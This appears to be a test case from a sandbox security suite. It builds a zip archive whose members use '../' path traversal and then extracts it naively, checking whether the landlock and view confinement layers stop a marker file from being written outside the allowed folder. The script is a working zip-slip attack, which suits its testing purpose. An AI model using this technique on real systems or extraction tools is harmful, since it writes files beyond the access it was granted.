# /// attack
# catalogue = "files: archive members with .."
# layers = ["landlock", "view"]
# aim = "file"
# ///
# Hands in an archive whose members climb out of it, and unpacks it where it is graded.

# %% prepare
import io
import zipfile

with zipfile.ZipFile(folder / "data.zip", "w") as archive:
    archive.writestr("../../../climbed.txt", target["mark"])
    archive.writestr(f"{target['drop']}/climbed.txt", target["mark"])

# %%
import zipfile
from pathlib import Path

with zipfile.ZipFile("data.zip") as archive:
    for member in archive.namelist():
        for place in (Path(member), Path(TARGET["course"]) / Path(member).name):
            try:
                place.write_bytes(archive.read(member))
            except OSError as error:
                print(error)
